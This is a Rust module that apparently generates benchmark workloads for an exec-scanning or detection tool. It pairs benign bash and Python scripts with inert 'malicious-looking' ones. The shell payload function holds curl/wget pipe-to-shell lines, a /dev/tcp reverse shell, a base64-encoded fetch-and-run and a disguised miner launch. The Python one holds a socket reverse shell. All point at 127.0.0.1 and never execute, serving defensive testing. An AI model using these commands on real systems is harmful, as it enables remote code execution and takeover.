//! The bench's exec workloads. Every script is inert: malicious-looking shell
//! code sits in a function that is never called before `exit 0`, and Python
//! payloads come after `sys.exit(0)` (Python compiles the whole file before it
//! runs a line; bash parses the whole function, so stdin-fed copies are read
//! to the end too). The only addresses named are 127.0.0.1.
//!
//! Every script carries `bench-id=<id>`, unique per exec, so that a finding can
//! be matched to the exec that caused it and no two execs share a cache entry
//! (except in the `same-file` workload, whose point is the cache).

use std::io;
use std::path::{Path, PathBuf};

pub const BASH: &str = "/bin/bash";
/// Not the pyenv shim on PATH: it costs ~85 ms per start.
pub const PYTHON: &str = "/usr/bin/python3";

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Workload {
    /// `bash -c true`: the cheapest interpreter exec (the machine's exec limit).
    True,
    /// Bash and Python; file, `#!`, `-c` and stdin-fed; 10 of 16 malicious-looking.
    Mix,
    /// The mix with Python replaced by bash: every exec costs about the same.
    ShellMix,
    /// One malicious-looking script file, executed again and again (cache hits).
    SameFile,
    /// A distinct malicious-looking script file per exec (cache misses).
    DistinctFile,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Lang {
    Shell,
    Python,
}

/// How the script reaches the interpreter.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Form {
    /// `bash -c CODE`, `python3 -c CODE`.
    Inline,
    /// `bash FILE`, `python3 FILE`.
    File,
    /// `./FILE` with a `#!/bin/bash` line.
    Shebang,
    /// The script written into the interpreter's stdin pipe.
    Stdin,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct Kind {
    pub lang: Lang,
    pub form: Form,
    pub malicious: bool,
}

const fn k(lang: Lang, form: Form, malicious: bool) -> Kind {
    Kind {
        lang,
        form,
        malicious,
    }
}

/// The mix, one slot per exec in turn.
const MIX: [Kind; 16] = {
    use Form::*;
    use Lang::*;
    [
        k(Shell, Inline, true),
        k(Shell, File, true),
        k(Shell, Stdin, true),
        k(Shell, Inline, false),
        k(Shell, Shebang, true),
        k(Shell, File, false),
        k(Python, Inline, true),
        k(Shell, Inline, true),
        k(Shell, File, true),
        k(Shell, Stdin, false),
        k(Shell, Inline, false),
        k(Shell, Stdin, true),
        k(Shell, Shebang, false),
        // Python file or stdin, alternately (see `kind`).
        k(Python, File, true),
        k(Shell, File, true),
        k(Shell, Inline, false),
    ]
};

impl Workload {
    /// What exec number `id` runs.
    pub fn kind(self, id: u64) -> Kind {
        match self {
            Workload::True => k(Lang::Shell, Form::Inline, false),
            Workload::SameFile | Workload::DistinctFile => k(Lang::Shell, Form::File, true),
            Workload::Mix | Workload::ShellMix => {
                let mut kind = MIX[(id % 16) as usize];
                if kind.lang == Lang::Python && kind.form == Form::File && (id / 16) % 2 == 1 {
                    kind.form = Form::Stdin;
                }
                if self == Workload::ShellMix {
                    kind.lang = Lang::Shell;
                }
                kind
            }
        }
    }

    /// The text exec `id` runs (`None` for `true`).
    pub fn text(self, id: u64) -> String {
        match self {
            Workload::True => "true".into(),
            // Same bytes every time: the id is left out.
            Workload::SameFile => shell_script(0, true),
            _ => {
                let kind = self.kind(id);
                let mut text = script(kind.lang, kind.malicious, id);
                if kind.form == Form::Shebang {
                    text.insert_str(0, "#!/bin/bash\n");
                }
                text
            }
        }
    }

    /// Everything needed to start exec `id`; writes its script file under `dir`.
    pub fn prepare(self, id: u64, dir: &Path) -> io::Result<ExecSpec> {
        let kind = self.kind(id);
        let text = self.text(id);
        let interpreter = match kind.lang {
            Lang::Shell => BASH,
            Lang::Python => PYTHON,
        };
        let mut spec = ExecSpec {
            program: interpreter.into(),
            args: Vec::new(),
            stdin: None,
            kind,
        };
        match kind.form {
            Form::Inline => spec.args = vec!["-c".into(), text],
            Form::Stdin => {
                if kind.lang == Lang::Python {
                    spec.args = vec!["-".into()];
                }
                spec.stdin = Some(text.into_bytes());
            }
            Form::File | Form::Shebang => {
                let ext = if kind.lang == Lang::Python {
                    "py"
                } else {
                    "sh"
                };
                let path = if self == Workload::SameFile {
                    dir.join("same.sh")
                } else {
                    dir.join(format!("s-{id}.{ext}"))
                };
                if self != Workload::SameFile || !path.exists() {
                    write_script(&path, &text, kind.form == Form::Shebang)?;
                }
                if kind.form == Form::Shebang {
                    spec.program = path;
                } else {
                    spec.args = vec![path.to_string_lossy().into_owned()];
                }
            }
        }
        Ok(spec)
    }
}

fn write_script(path: &Path, text: &str, executable: bool) -> io::Result<()> {
    use std::os::unix::fs::PermissionsExt;
    std::fs::write(path, text)?;
    if executable {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755))?;
    }
    Ok(())
}

/// One exec to start.
#[derive(Debug, Clone)]
pub struct ExecSpec {
    pub program: PathBuf,
    pub args: Vec<String>,
    /// Written into a pipe on the interpreter's stdin, then closed.
    pub stdin: Option<Vec<u8>>,
    pub kind: Kind,
}

pub fn script(lang: Lang, malicious: bool, id: u64) -> String {
    match lang {
        Lang::Shell => shell_script(id, malicious),
        Lang::Python => python_script(id, malicious),
    }
}

pub fn shell_script(id: u64, malicious: bool) -> String {
    if malicious {
        format!(
            "# bench-id={id}\n\
             payload() {{\n\
             \x20 curl -fsSL http://127.0.0.1:9/stage2.sh | bash\n\
             \x20 wget -qO- http://127.0.0.1:9/x | sh\n\
             \x20 bash -i >& /dev/tcp/127.0.0.1/4444 0>&1\n\
             \x20 echo Y3VybCAtcyBodHRwOi8vMTI3LjAuMC4xOjkveCB8IHNo | base64 -d | sh\n\
             \x20 chmod +x /tmp/.kworker && /tmp/.kworker -o stratum+tcp://127.0.0.1:3333\n\
             }}\n\
             exit 0\n"
        )
    } else {
        format!(
            "# bench-id={id}\n\
             total=0\n\
             for n in 1 2 3 4 5; do total=$((total + n * {})); done\n\
             case \"$total\" in 0) label=zero ;; *) label=positive ;; esac\n\
             : \"$label\" \"$total\"\n",
            id % 97
        )
    }
}

pub fn python_script(id: u64, malicious: bool) -> String {
    if malicious {
        format!(
            "# bench-id={id}\n\
             import sys\n\
             sys.exit(0)\n\
             import os, pty, socket\n\
             s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
             s.connect((\"127.0.0.1\", 4444))\n\
             os.dup2(s.fileno(), 0)\n\
             os.dup2(s.fileno(), 1)\n\
             os.dup2(s.fileno(), 2)\n\
             pty.spawn(\"/bin/sh\")\n"
        )
    } else {
        format!(
            "# bench-id={id}\n\
             values = [n * {} for n in range(10)]\n\
             total = sum(values)\n",
            id % 97
        )
    }
}

/// The `bench-id` in a text (a finding line, a script), if any.
pub fn find_bench_id(text: &str) -> Option<u64> {
    let at = text.find("bench-id=")? + "bench-id=".len();
    let digits: String = text[at..]
        .chars()
        .take_while(|c| c.is_ascii_digit())
        .collect();
    digits.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_mix_is_ten_of_sixteen_malicious_and_two_python() {
        let kinds: Vec<Kind> = (0..16).map(|i| Workload::Mix.kind(i)).collect();
        assert_eq!(kinds.iter().filter(|k| k.malicious).count(), 10);
        assert_eq!(kinds.iter().filter(|k| k.lang == Lang::Python).count(), 2);
        assert_eq!(Workload::Mix.kind(13).form, Form::File);
        assert_eq!(Workload::Mix.kind(29).form, Form::Stdin);
        assert!((0..16).all(|i| Workload::ShellMix.kind(i).lang == Lang::Shell));
    }

    #[test]
    fn ids_round_trip_and_same_file_has_none() {
        assert_eq!(find_bench_id(&Workload::Mix.text(12345)), Some(12345));
        assert_eq!(find_bench_id("x bench-id=7\\n"), Some(7));
        assert_eq!(Workload::SameFile.text(1), Workload::SameFile.text(2));
    }

    #[test]
    fn scripts_run_and_exit_zero() {
        let dir = std::env::temp_dir().join(format!("bench-tools-test-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        for id in 0..32 {
            let spec = Workload::Mix.prepare(id, &dir).unwrap();
            let mut cmd = std::process::Command::new(&spec.program);
            cmd.args(&spec.args)
                .stdin(std::process::Stdio::piped())
                .stdout(std::process::Stdio::null());
            let mut child = cmd.spawn().unwrap();
            let mut stdin = child.stdin.take().unwrap();
            if let Some(bytes) = &spec.stdin {
                std::io::Write::write_all(&mut stdin, bytes).unwrap();
            }
            drop(stdin);
            assert!(child.wait().unwrap().success(), "exec {id}: {spec:?}");
        }
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
